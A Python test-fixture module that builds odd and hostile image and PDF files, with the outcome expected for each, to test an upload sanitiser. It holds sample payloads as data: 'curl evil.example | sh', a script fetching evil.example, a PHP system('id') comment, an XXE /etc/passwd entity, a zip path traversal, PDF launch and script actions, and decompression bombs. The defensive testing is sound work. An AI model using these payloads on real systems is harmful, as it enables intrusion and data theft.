"""Odd and hostile files, made here, and what must become of each. The table of outcomes is
outcomes.txt; `test_sanitise.py` makes it again.

A file may hide CANARY in its bytes, or a large red square where nobody should see it: neither may come out.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path

import pillow_heif
from PIL import Image, PngImagePlugin

from tests.identity import portable
from tests.identity.portable import FONTS, RED_PAGE, pdf, stream

CANARY = b"Canari-7K4M-Sacha-Temoin"
ACCEPTED = "accepted"
TABLE = Path(__file__).with_name("outcomes.txt")
# The test string of the virus scanners' makers, backwards here, so that no scanner takes this file for it.
EICAR = rb"*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\4[PA@%P!O5X"[::-1]


@dataclass(frozen=True)
class Odd:
    """A file, what is odd about it, and what must become of it: accepted, or the code of the refusal."""

    name: str
    data: bytes = field(repr=False)
    outcome: str
    hides: str = ""  # "bytes": CANARY is in them; "red": a red square is in a frame, layer or revision that is not shown
    seconds: float = 30.0


def picture(size: tuple[int, int] = (600, 400), colour: str = "teal", mode: str = "RGB") -> Image.Image:
    """A card: a field of one colour with a darker band."""
    image = Image.new("RGB", size, colour)
    image.paste("navy", (0, size[1] // 3, size[0], size[1] // 2))
    return image.convert(mode)


def saved(image: Image.Image, kind: str, **more: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **more)
    return out.getvalue()


JPEG, PNG = saved(picture(), "JPEG"), saved(picture(), "PNG")
RED = picture(colour="red").resize((600, 400))
RED.paste("red", (0, 0, 600, 400))


def with_segment(marker: int, payload: bytes) -> bytes:
    return JPEG[:2] + bytes([0xFF, marker]) + struct.pack("!H", len(payload) + 2) + payload + JPEG[2:]


def with_chunk(kind: bytes, payload: bytes, png: bytes = PNG) -> bytes:
    """The PNG with a chunk right after its header."""
    chunk = struct.pack("!L", len(payload)) + kind + payload + struct.pack("!L", zlib.crc32(kind + payload))
    return png[:33] + chunk + png[33:]


def png_of(width: int, height: int, lines: int) -> bytes:
    """A 1-bit PNG that declares `width` by `height` and carries `lines` lines."""
    head = struct.pack("!LLBBBBB", width, height, 1, 0, 0, 0, 0)
    squeeze = zlib.compressobj(9)
    body = b"".join(squeeze.compress(bytes(width // 8 + 2)) for _ in range(lines)) + squeeze.flush()
    out = b"\x89PNG\r\n\x1a\n"
    for kind, payload in ((b"IHDR", head), (b"IDAT", body), (b"IEND", b"")):
        out += struct.pack("!L", len(payload)) + kind + payload + struct.pack("!L", zlib.crc32(kind + payload))
    return out


def exif(**more: object) -> Image.Exif:
    found = Image.Exif()
    found[0x010E] = CANARY.decode()  # description
    found[0x0112] = 6  # turned
    gps = found.get_ifd(0x8825)
    gps[1], gps[2] = "N", (44.0, 50.0, 0.0)
    return found


def text_png(kind: str) -> bytes:
    words = PngImagePlugin.PngInfo()
    if kind == "iTXt":
        words.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{CANARY.decode()}</x:xmpmeta>")
    else:
        words.add_text("Comment", CANARY.decode())
    return saved(picture(), "PNG", pnginfo=words)


def zipped(*names: str, content: bytes = CANARY) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, content)
    return out.getvalue()


def heic(**more: object) -> bytes:
    pillow_heif.register_heif_opener()
    return saved(picture((640, 480)), "HEIF", **more)


def locked(user: str, algorithm: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password=user, owner_password="owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def harmless() -> Iterator[Odd]:
    """What honest people send."""
    yield Odd("photo.jpeg", JPEG, ACCEPTED)
    yield Odd("grey.jpeg", saved(picture(mode="L"), "JPEG"), ACCEPTED)
    yield Odd("print-colours.jpeg", saved(picture(mode="CMYK"), "JPEG"), ACCEPTED)
    yield Odd("progressive.jpeg", saved(picture(), "JPEG", progressive=True), ACCEPTED)
    yield Odd("48-megapixels.jpeg", saved(Image.new("RGB", (8064, 6048), "teal"), "JPEG"), ACCEPTED)
    yield Odd("one-pixel.jpeg", saved(Image.new("RGB", (1, 1), "teal"), "JPEG"), ACCEPTED)
    yield Odd("very-wide.jpeg", saved(Image.new("RGB", (12_000, 40), "teal"), "JPEG"), ACCEPTED)
    yield Odd("scan.png", PNG, ACCEPTED)
    yield Odd("palette.png", saved(picture(mode="P"), "PNG"), ACCEPTED)
    yield Odd("black-and-white.png", saved(picture(mode="1"), "PNG"), ACCEPTED)
    yield Odd("see-through.png", saved(picture(mode="RGBA"), "PNG"), ACCEPTED)
    yield Odd("grey-and-alpha.png", saved(picture(mode="LA"), "PNG"), ACCEPTED)
    yield Odd("sixteen-bit.png", saved(Image.new("I;16", (300, 200), 30_000), "PNG"), ACCEPTED)
    yield Odd("phone.heic", heic(), ACCEPTED)
    yield Odd("ten-bit-phone.heic", heic().replace(b"ftypheic", b"ftypheix", 1), ACCEPTED)
    yield Odd("one-page.pdf", pdf(), ACCEPTED)
    yield Odd("ten-pages.pdf", pdf(count=10), ACCEPTED)
    yield Odd("line-break-before-header.pdf", b"\r\n" + pdf(), ACCEPTED)
    yield Odd("openable-without-password.pdf", locked("", "AES-256"), ACCEPTED)
    yield Odd("jpeg-named.pdf", JPEG, ACCEPTED)
    yield Odd("pdf-named.png", pdf(), ACCEPTED)


def carriers() -> Iterator[Odd]:
    """Pictures that bring something along."""
    second = saved(picture(), "MPO", save_all=True, append_images=[RED])
    moving = saved(picture(), "PNG", save_all=True, append_images=[RED], default_image=True)
    script = b"<script>fetch('//evil.example/" + CANARY + b"')</script>"
    yield Odd("exif-and-place.jpeg", saved(picture(), "JPEG", exif=exif()), ACCEPTED, "bytes")
    yield Odd("exif-garbage.jpeg", with_segment(0xE1, b"Exif\0\0" + CANARY * 40), ACCEPTED, "bytes")
    yield Odd("xmp.jpeg", with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + CANARY), ACCEPTED, "bytes")
    yield Odd("iptc.jpeg", with_segment(0xED, b"Photoshop 3.0\0" + CANARY), ACCEPTED, "bytes")
    yield Odd("colour-profile.jpeg", saved(picture(), "JPEG", icc_profile=CANARY * 10), ACCEPTED, "bytes")
    yield Odd("comment-with-php.jpeg", with_segment(0xFE, b"<?php system('id'); /*" + CANARY), ACCEPTED, "bytes")
    yield Odd("unknown-segment.jpeg", with_segment(0xEF, CANARY), ACCEPTED, "bytes")
    yield Odd("second-picture.jpeg", second, ACCEPTED, "red")
    yield Odd("tail.jpeg", JPEG + CANARY, ACCEPTED, "bytes")
    yield Odd("tail-is-a-zip.jpeg", JPEG + zipped("passport.txt"), ACCEPTED, "bytes")
    yield Odd("tail-is-a-page.jpeg", JPEG + b"<html>" + script, ACCEPTED, "bytes")
    yield Odd("tail-is-a-pdf.jpeg", JPEG + pdf(trailer=b"/Info<</A(" + CANARY + b")>>"), ACCEPTED, "bytes")
    yield Odd("text.png", text_png("tEXt"), ACCEPTED, "bytes")
    yield Odd("xmp.png", text_png("iTXt"), ACCEPTED, "bytes")
    yield Odd("exif.png", saved(picture(), "PNG", exif=exif()), ACCEPTED, "bytes")
    yield Odd("private-chunk.png", with_chunk(b"prVt", CANARY), ACCEPTED, "bytes")
    yield Odd("tail.png", PNG + CANARY, ACCEPTED, "bytes")
    yield Odd("tail-is-a-program.png", PNG + b"MZ\x90\0" + CANARY, ACCEPTED, "bytes")
    yield Odd("moving.png", moving, ACCEPTED, "red")
    yield Odd("exif.heic", heic(exif=exif().tobytes()), ACCEPTED, "bytes")
    yield Odd("xmp.heic", heic(xmp=b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>"), ACCEPTED, "bytes")
    yield Odd("tail.heic", heic() + CANARY, ACCEPTED, "bytes")


def active() -> Iterator[Odd]:
    """PDF files that do or hide something."""
    says = b"(app.alert('" + CANARY + b"'))"
    attached = [b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>", stream(b"MZ" + CANARY)]
    named = b"/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>"
    hidden = b"/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]/Order[6 0 R]>>>>"
    layer = FONTS[:-2] + b"/Properties<</L 6 0 R>>>>"
    unseen = b"<</Type/Annot/Subtype/Square/F 2/Rect[40 40 340 340]/IC[1 0 0]/Contents(" + CANARY + b")/AP<</N 7 0 R>>>>"
    red_form = stream(RED_PAGE, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
    earlier = portable.revised(pdf(content=RED_PAGE + b" %" + CANARY), 4, stream(portable.HONEST_PAGE))
    yield Odd("information.pdf", pdf(trailer=b"/Info<</Author(" + CANARY + b")>>"), ACCEPTED, "bytes")
    yield Odd("xmp.pdf", pdf(catalogue=b"/Metadata 6 0 R", more=[stream(CANARY, b"/Type/Metadata")]), ACCEPTED, "bytes")
    yield Odd("script-on-opening.pdf", pdf(catalogue=b"/OpenAction<</S/JavaScript/JS" + says + b">>"), ACCEPTED, "bytes")
    yield Odd("script-of-page.pdf", pdf(page=FONTS + b"/AA<</O<</S/JavaScript/JS" + says + b">>>>"), ACCEPTED, "bytes")
    yield Odd("starts-a-program.pdf", pdf(catalogue=b"/OpenAction<</S/Launch/F(" + CANARY + b".exe)>>"), ACCEPTED, "bytes")
    yield Odd("calls-home.pdf", pdf(catalogue=b"/OpenAction<</S/URI/URI(http://" + CANARY + b".example)>>"), ACCEPTED, "bytes")
    yield Odd("sends-a-form.pdf", pdf(catalogue=b"/OpenAction<</S/SubmitForm/F(" + CANARY + b")>>"), ACCEPTED, "bytes")
    yield Odd("attachment.pdf", pdf(catalogue=named, more=attached), ACCEPTED, "bytes")
    yield Odd("xfa.pdf", pdf(catalogue=b"/AcroForm<</Fields[]/XFA 6 0 R>>", more=[stream(CANARY)]), ACCEPTED, "bytes")
    yield Odd("earlier-revision.pdf", earlier, ACCEPTED, "red")
    yield Odd(
        "layer-switched-off.pdf",
        pdf(
            content=b"/OC /L BDC " + RED_PAGE + b" EMC " + portable.HONEST_PAGE,
            catalogue=hidden,
            page=layer,
            more=[b"<</Type/OCG/Name(" + CANARY + b")>>"],
        ),
        ACCEPTED,
        "red",
    )
    yield Odd("unseen-note.pdf", pdf(page=FONTS + b"/Annots[6 0 R]", more=[unseen, red_form]), ACCEPTED, "red")
    yield Odd("outside-the-page.pdf", pdf(content=b"1 0 0 rg 900 900 300 300 re f %" + CANARY), ACCEPTED, "bytes")
    yield Odd("tail.pdf", pdf() + CANARY, ACCEPTED, "bytes")
    yield Odd("also-a-zip.pdf", pdf() + zipped("a.js"), ACCEPTED, "bytes")
    yield Odd("also-a-web-page.pdf", pdf().replace(b"\n", b"\n%<script>" + CANARY + b"</script>\n", 1), ACCEPTED, "bytes")
    yield Odd("huge-page.pdf", pdf(box=b"0 0 2000000 2000000"), ACCEPTED)
    yield Odd("page-of-one-point.pdf", pdf(box=b"0 0 1 1"), ACCEPTED)
    yield Odd("page-a-mile-long.pdf", pdf(box=b"0 0 1 200000"), ACCEPTED)
    yield Odd("calls-itself.pdf", pdf(content=b"/X Do", page=b"/Resources<</XObject<</X 6 0 R>>>>", more=[itself()]), ACCEPTED)


def itself() -> bytes:
    return stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")


def bombs() -> Iterator[Odd]:
    """Small files that want to be large."""
    yield Odd("declares-4-gigapixels.png", png_of(65_535, 65_535, 10), "pixels")
    yield Odd("400-megapixels.png", png_of(20_000, 20_000, 20_000), "pixels")
    yield Odd("declares-4-gigapixels.jpeg", JPEG[:2] + huge(JPEG[2:]), "pixels")
    yield Odd("text-bomb.png", with_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80 << 20), 9)), "unreadable")
    yield Odd("profile-bomb.png", with_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(80 << 20), 9)), "unreadable")
    yield Odd("eleven-pages.pdf", pdf(count=11), "pages")
    yield Odd("five-thousand-pages.pdf", pdf(count=5000), "pages")
    yield Odd("ten-times-ten-times-ten.pdf", portable.laughs(), "heavy", seconds=2)
    yield Odd("drawing-bomb.pdf", portable.flate_bomb(250), "heavy or unreadable", seconds=4)
    yield Odd("picture-bomb.pdf", portable.image_bomb(9_000), "heavy or unreadable or accepted", seconds=4)


def huge(rest: bytes) -> bytes:
    at = rest.index(b"\xff\xc0")
    return rest[: at + 5] + b"\xff\xff\xff\xff" + rest[at + 9 :]


def damaged() -> Iterator[Odd]:
    """Files that are not whole, or locked."""
    yield Odd("empty.jpeg", b"", "empty")
    yield Odd("eleven-megabytes.jpeg", JPEG + bytes(11 << 20), "size")
    yield Odd("one-byte.jpeg", b"\xff", "type")
    yield Odd("cut-off.jpeg", JPEG[: len(JPEG) // 2], "unreadable")
    yield Odd("cut-off.png", PNG[: len(PNG) // 2], "unreadable")
    yield Odd("cut-off.heic", heic()[:300], "unreadable")
    yield Odd("only-the-first-bytes.jpeg", JPEG[:20], "unreadable")
    yield Odd("garbage-after-header.png", PNG[:8] + bytes(range(256)) * 4, "unreadable")
    yield Odd("garbage-after-header.heic", heic()[:32] + bytes(range(256)) * 4, "unreadable")
    yield Odd("wrong-checksum.png", PNG[:29] + b"\0\0\0\0" + PNG[33:], "unreadable")
    yield Odd("only-the-header.pdf", b"%PDF-1.7\n", "unreadable")
    yield Odd("no-pages.pdf", pdf(count=0), "unreadable")
    yield Odd("garbage-after-header.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20, "unreadable")
    yield Odd("locked-aes.pdf", locked("secret", "AES-256"), "password")
    yield Odd("locked-rc4.pdf", locked("secret", "RC4-128"), "password")


def others() -> Iterator[Odd]:
    """Kinds that we do not take, whatever they are called."""
    script = b"<script>alert(1)</script>"
    yield Odd("moving.gif", saved(picture(), "GIF"), "type")
    yield Odd("picture.bmp", saved(picture(), "BMP"), "type")
    yield Odd("fax.tiff", saved(picture(), "TIFF"), "type")
    yield Odd("picture.webp", saved(picture(), "WEBP"), "type")
    yield Odd("icon.ico", saved(picture((64, 64)), "ICO"), "type")
    yield Odd("picture.jp2", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200), "type")
    yield Odd("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>", "type")
    yield Odd("page.html", b"<!doctype html>" + script, "type")
    yield Odd("entities.xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "type")
    yield Odd("letter.docx", zipped("[Content_Types].xml", "word/document.xml"), "type")
    yield Odd("old-letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "type")
    yield Odd("letter.rtf", rb"{\rtf1 Bonjour}", "type")
    yield Odd("archive.zip", zipped("../../etc/cron.d/x"), "type")
    yield Odd("zip-bomb.zip", zipped_bomb(), "type")
    yield Odd("program.exe", b"MZ\x90\0" + bytes(400), "type")
    yield Odd("program.elf", b"\x7fELF\x02\x01\x01" + bytes(400), "type")
    yield Odd("script.sh", b"#!/bin/sh\ncurl evil.example | sh\n", "type")
    yield Odd("drawing.ps", b"%!PS-Adobe-3.0\n(/etc/passwd)(r) file", "type")
    yield Odd("pdf-after-a-kilobyte.pdf", bytes(900) + pdf(), "type")
    yield Odd("film.mp4", b"\0\0\0\x18ftypmp42" + bytes(400), "type")
    yield Odd("brand-of-no-alphabet.heic", b"\0\0\0\x18ftyp\xff\xfe\xfd\xfc" + bytes(400), "type")
    yield Odd("picture.avif", b"\0\0\0\x1cftypavif" + bytes(400), "type")
    yield Odd("words.txt", b"Je suis Camille.", "type")
    yield Odd("eicar.com", EICAR, "type")


def zipped_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros", bytes(20 << 20))
    return out.getvalue()


GROUPS: dict[str, Callable[[], Iterator[Odd]]] = {
    "harmless": harmless,
    "brings something along": carriers,
    "active or hiding": active,
    "wants to be large": bombs,
    "not whole, or locked": damaged,
    "another kind": others,
}


@lru_cache(maxsize=1)
def files() -> dict[str, list[Odd]]:
    """All files, by group; made once."""
    return {group: list(make()) for group, make in GROUPS.items()}


def table(outcomes: dict[str, str]) -> str:
    """One line for each file: its group, its name, what became of it; where the machine's speed decides, what may become."""
    lines = [f"{'group':<24}{'file':<36}outcome", ""]
    for group, odds in files().items():
        lines += [f"{group:<24}{o.name:<36}{o.outcome if ' or ' in o.outcome else outcomes[o.name]}" for o in odds]
    return "\n".join([*lines, ""])
